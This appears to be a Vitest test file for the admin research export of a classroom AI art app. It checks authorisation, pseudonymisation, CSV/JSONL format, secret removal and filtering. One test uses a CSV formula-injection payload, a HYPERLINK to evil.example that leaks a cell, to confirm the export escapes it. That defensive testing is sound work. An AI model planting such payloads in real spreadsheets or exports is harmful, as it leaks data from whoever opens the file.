import { execFileSync } from 'node:child_process'
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join, relative } from 'node:path'
import { randomUUID } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { signInAsLeader, TEST_ADMIN_PASSWORD } from '../support/admin'
import { api, Device, waitForRun } from '../support/api'
import { createRun, readRunMetadata, runDir } from '../support/run-files'
import { makeTempDir, startServer, type TestServer } from '../support/server'

const SESSION_ID = 's-0a1b2c3d4e5f'
const JOIN_CODE = 'K7RM4Q'
const SESSION_NAME = 'Klasse 4b, "Kunst" – Äpfel'

const COLUMNS = [
  'run_id', 'created_at', 'session_id', 'session_name', 'participant_export_id', 'participant_pseudonym',
  'perspective', 'output', 'output_type', 'safety_level', 'status', 'hidden',
  'class_gallery_suggested_at', 'class_gallery_published_at',
  'input_safety_duration_ms', 'input_safety_provider', 'personal_data_duration_ms', 'personal_data_provider',
  'interception_duration_ms', 'interception_provider', 'interception_safety_duration_ms', 'interception_safety_provider',
  'pre_output_duration_ms', 'pre_output_provider', 'generation_duration_ms', 'generation_provider',
  'output_safety_duration_ms', 'output_safety_provider',
  'input_text', 'input_images', 'rules', 'rules_edit_count', 'rules_changed_at', 'interception_text', 'generation_prompt', 'machine_text', 'prompt_edit_count',
  'reflection_chips', 'reflection_texts', 'files',
]

let server: TestServer
let leader: string
const studio = new Device()
const classroom = new Device()
const runIds: string[] = []
let blockedRunId: string
let editedRunId: string

/** A course session with a join code, written before start-up as the session store writes it. */
function seedSession(dataDir: string) {
  const now = new Date().toISOString()
  mkdirSync(join(dataDir, 'sessions'), { recursive: true })
  mkdirSync(join(dataDir, 'join-codes'), { recursive: true })
  writeFileSync(join(dataDir, 'sessions', `${SESSION_ID}.json`), JSON.stringify({
    id: SESSION_ID, name: SESSION_NAME, join_code: JOIN_CODE, safety_level: 'kids', perspectives: null, outputs: null,
    limits: { runs_per_hour: null, runs_in_progress: null }, open: true, archived: false, retention: 'global',
    created_at: now, updated_at: now, created_by: 'admin',
  }, null, 2))
  writeFileSync(join(dataDir, 'join-codes', JOIN_CODE), JSON.stringify(SESSION_ID))
}

/** RFC 4180: quoted fields with doubled quotes and line breaks inside, CRLF between records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') { field += '"'; i++ }
      else if (char === '"') quoted = false
      else field += char
    }
    else if (char === '"' && field === '') quoted = true
    else if (char === ',') { record.push(field); field = '' }
    else if (char === '\r' && text[i + 1] === '\n') { record.push(field); records.push(record); record = []; field = ''; i++ }
    else field += char
  }
  if (field !== '' || record.length) throw new Error('CSV does not end with CRLF')
  return records
}

/** Downloads an export and unpacks it with the system's unzip, as a researcher would. */
async function downloadExport(query: string, cookie = leader): Promise<{ dir: string, bytes: Buffer, headers: Headers }> {
  const response = await fetch(`${server.url}/api/admin/export?${query}`, { headers: { cookie } })
  expect(response.status, await response.clone().text().then(text => text.slice(0, 200))).toBe(200)
  const bytes = Buffer.from(await response.arrayBuffer())
  const dir = makeTempDir('ai4artsed-export-test-')
  writeFileSync(join(dir, 'export.zip'), bytes)
  execFileSync('unzip', ['-q', 'export.zip', '-d', 'out'], { cwd: dir })
  return { dir: join(dir, 'out'), bytes, headers: response.headers }
}

function filesUnder(dir: string): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter(entry => entry.isFile()).map(entry => relative(dir, join(entry.parentPath, entry.name))).sort()
}

beforeAll(async () => {
  const dataDir = makeTempDir()
  seedSession(dataDir)
  server = await startServer({ dataDir, env: { NUXT_ADMIN_PASSWORD: TEST_ADMIN_PASSWORD } })
  expect((await api(server, '/api/join', { body: { code: JOIN_CODE }, device: classroom })).status).toBe(200)

  const image = await createRun(server, { perspective: 'bauhaus', input_text: 'Ein "Bär", der Äpfel isst,\nim Schnee', output: 'image_builtin' }, studio)
  const audio = await createRun(server, { perspective: 'bauhaus', input_text: 'Der Wind singt über dem Meer', output: 'audio_builtin' }, studio)
  blockedRunId = await createRun(server, { perspective: 'bauhaus', input_text: 'Ich will jemanden töten', output: 'image_builtin' }, studio)
  editedRunId = await createRun(server, { perspective: 'bauhaus', input_text: 'A tree house with a slide' }, classroom)
  const inClass = await createRun(server, { perspective: 'renaissance', input_text: 'Eine Katze auf dem Sofa', output: 'image_builtin' }, classroom)
  const inClassAudio = await createRun(server, { perspective: 'renaissance', input_text: 'Vögel im Frühling', output: 'audio_builtin' }, classroom)
  runIds.push(image, audio, blockedRunId, editedRunId, inClass, inClassAudio)

  expect((await waitForRun(server, editedRunId, undefined, 30_000, classroom)).status).toBe('awaiting_output')
  const patch = await api(server, `/api/runs/${editedRunId}/interception`, { method: 'PATCH', body: { text: 'A tall yellow tree house, with "three" windows' }, device: classroom })
  expect(patch.status).toBe(200)
  expect((await api(server, `/api/runs/${editedRunId}/generate`, { body: { output: 'image' }, device: classroom })).status).toBe(202)
  const final = (id: string) => id === blockedRunId ? 'blocked' : 'completed'
  for (const id of runIds) {
    const device = [image, audio, blockedRunId].includes(id) ? studio : classroom
    expect((await waitForRun(server, id, run => run.status === final(id), 30_000, device)).status).toBe(final(id))
  }
  leader = (await signInAsLeader(server)).cookieHeader
}, 90_000)

afterAll(async () => {
  await server?.stop()
})

describe('research export', () => {
  it('answers 401 to anonymous visitors and to participants', async () => {
    for (const path of ['/api/admin/export', `/api/admin/exports/${randomUUID()}`]) {
      expect((await fetch(`${server.url}${path}`)).status, path).toBe(401)
      expect((await fetch(`${server.url}${path}`, { headers: { cookie: classroom.cookieHeader } })).status, path).toBe(401)
    }
  })

  it('puts every stored file of every run into the ZIP byte for byte, with the cookie value replaced in metadata.json', async () => {
    const exportId = randomUUID()
    const { dir, bytes, headers } = await downloadExport(`export_id=${exportId}`)
    expect(headers.get('content-type')).toBe('application/zip')
    expect(headers.get('content-disposition')).toMatch(/^attachment; filename="ai4artsed-runs-\d{4}-\d{2}-\d{2}\.zip"$/)

    const expected = runIds.flatMap(id => readdirSync(runDir(server.dataDir, id)).map(file => `runs/${id}/${file}`))
    expect(filesUnder(dir)).toEqual([...expected, 'runs.csv', 'runs.jsonl'].sort())
    const exportIds = new Map<string, string>()
    for (const id of runIds) {
      for (const file of readdirSync(runDir(server.dataDir, id))) {
        const stored = readFileSync(join(runDir(server.dataDir, id), file))
        const exported = readFileSync(join(dir, 'runs', id, file))
        if (file !== 'metadata.json') {
          expect(exported.equals(stored), `runs/${id}/${file}`).toBe(true)
          continue
        }
        const { participant_id: storedParticipant, ...storedRest } = JSON.parse(stored.toString('utf8'))
        const { participant_id: exportedParticipant, ...exportedRest } = JSON.parse(exported.toString('utf8'))
        expect(exportedRest).toEqual(storedRest)
        expect(exportedParticipant).toMatch(/^[0-9a-f]{16}$/)
        expect(exportedParticipant).not.toBe(storedParticipant)
        if (exportIds.has(storedParticipant)) expect(exportedParticipant).toBe(exportIds.get(storedParticipant))
        exportIds.set(storedParticipant, exportedParticipant)
      }
    }
    expect(new Set(exportIds.values()).size, 'one export id per participant').toBe(2)

    // The response ends only after the progress says done (send-export.ts): read once, no retries.
    const progress = await api(server, `/api/admin/exports/${exportId}`, { headers: { cookie: leader }, device: new Device() })
    expect(progress.status).toBe(200)
    expect(progress.body).toMatchObject({ export_id: exportId, status: 'done', runs_total: 6, runs_done: 6, error: null })
    expect(progress.body.bytes).toBe(bytes.length)
  })

  it('writes runs.csv (RFC 4180, UTF-8 with BOM) and runs.jsonl with one row per run', async () => {
    const { dir } = await downloadExport('')
    const csvText = readFileSync(join(dir, 'runs.csv'), 'utf8')
    expect(csvText.startsWith('\uFEFF')).toBe(true)
    const [header, ...rows] = parseCsv(csvText.slice(1))
    expect(header).toEqual(COLUMNS)
    expect(rows.map(row => row[0]).sort()).toEqual([...runIds].sort())
    const jsonl = readFileSync(join(dir, 'runs.jsonl'), 'utf8').split('\n')
    expect(jsonl.pop()).toBe('')
    const objects = jsonl.map(line => JSON.parse(line) as Record<string, unknown>)
    expect(objects.map(object => object.run_id).sort()).toEqual([...runIds].sort())

    for (const row of rows) {
      const record = Object.fromEntries(COLUMNS.map((column, i) => [column, row[i]!]))
      const object = objects.find(candidate => candidate.run_id === record.run_id)!
      const run = readRunMetadata(server.dataDir, record.run_id!)
      const participant = JSON.parse(readFileSync(join(server.dataDir, 'participants', run.participant_id!, 'participant.json'), 'utf8'))
      expect(record).toMatchObject({
        created_at: run.created_at, session_id: run.session_id, participant_pseudonym: participant.pseudonym,
        perspective: run.perspective, status: run.status, safety_level: run.safety_level, hidden: 'false',
        input_text: run.input_text, interception_text: run.interception_text ?? '', generation_prompt: run.generation_prompt ?? '',
        files: readdirSync(runDir(server.dataDir, run.run_id)).sort().join(';'),
        generation_provider: run.stages.find(stage => stage.name === 'generation')!.provider ?? '',
      })
      const session = JSON.parse(readFileSync(join(server.dataDir, 'sessions', `${run.session_id}.json`), 'utf8'))
      expect(record.session_name).toBe(session.name)
      expect(object).toMatchObject({ run_id: run.run_id, participant_export_id: record.participant_export_id, input_text: run.input_text, hidden: false })
      expect(object.input_safety_duration_ms).toBe(run.stages[0]!.duration_ms)
    }
    const edited = objects.find(object => object.run_id === editedRunId)!
    expect(edited).toMatchObject({ session_name: SESSION_NAME, prompt_edit_count: 1, output_type: 'image', generation_prompt: 'A tall yellow tree house, with "three" windows' })
    expect(objects.find(object => object.run_id === blockedRunId)).toMatchObject({ status: 'blocked', output_type: null, files: ['input.txt', 'metadata.json'] })
    expect(objects.filter(object => object.output_type === 'audio')).toHaveLength(2)
  })

  it('leaves join codes, participant cookie values and IP addresses out of every text file', async () => {
    const { dir } = await downloadExport('')
    const secrets = [JOIN_CODE, studio.cookies.get('ai4a_participant')!, classroom.cookies.get('ai4a_participant')!, '127.0.0.1', '::ffff:', '::1']
    expect(secrets.slice(1, 3).every(Boolean)).toBe(true)
    for (const file of filesUnder(dir).filter(name => /\.(json|jsonl|txt|csv)$/.test(name))) {
      const text = readFileSync(join(dir, file), 'utf8')
      for (const secret of secrets) expect(text.includes(secret), `${secret} in ${file}`).toBe(false)
    }
  })

  it('exports only the runs the filters or the id list select', async () => {
    const blocked = await downloadExport('status=blocked')
    expect(readdirSync(join(blocked.dir, 'runs'))).toEqual([blockedRunId])
    const inSession = await downloadExport(`session_id=${SESSION_ID}&q=TREE%20HOUSE`)
    expect(readdirSync(join(inSession.dir, 'runs'))).toEqual([editedRunId])
    const listed = await downloadExport(`ids=${runIds[0]},${runIds[1]},not-a-run`)
    expect(readdirSync(join(listed.dir, 'runs')).sort()).toEqual([runIds[0], runIds[1]].sort())
    expect(readFileSync(join(listed.dir, 'runs.jsonl'), 'utf8').trim().split('\n')).toHaveLength(2)
  })

  it('answers 400 to a bad filter and 404 to an unknown export id', async () => {
    const bad = await fetch(`${server.url}/api/admin/export?from=yesterday`, { headers: { cookie: leader } })
    expect(bad.status).toBe(400)
    expect((await fetch(`${server.url}/api/admin/exports/${randomUUID()}`, { headers: { cookie: leader } })).status).toBe(404)
  })

  it('writes ideas that start like a spreadsheet formula into runs.csv as text, with a leading apostrophe', async () => {
    const ideas = ['=HYPERLINK("http://evil.example/?leak="&A1,"Klick mich")', '+1+1', '-2 Katzen', '@SUM(A1:A9)']
    const ids = await Promise.all(ideas.map(input_text => createRun(server, { perspective: 'bauhaus', input_text }, studio)))
    for (const id of ids) await waitForRun(server, id, undefined, 30_000, studio)
    const { dir } = await downloadExport(`ids=${ids.join(',')}`)
    const [header, ...rows] = parseCsv(readFileSync(join(dir, 'runs.csv'), 'utf8').slice(1))
    const inputs = rows.map(row => row[header!.indexOf('input_text')])
    expect(inputs.sort()).toEqual(ideas.map(idea => `'${idea}`).sort())
    // The research data itself is unchanged: runs.jsonl and the run folders keep the idea as typed.
    const jsonl = readFileSync(join(dir, 'runs.jsonl'), 'utf8').trim().split('\n').map(line => JSON.parse(line).input_text)
    expect(jsonl.sort()).toEqual([...ideas].sort())
  })
})
